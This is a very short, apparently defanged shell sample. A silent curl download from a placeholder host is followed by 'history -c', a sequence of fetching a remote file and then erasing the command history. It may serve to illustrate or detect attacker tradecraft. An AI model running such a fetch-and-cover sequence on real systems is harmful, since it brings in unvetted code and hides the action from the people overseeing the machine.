# defanged sample
curl -s https://a.example.invalid/x -o x
history -c
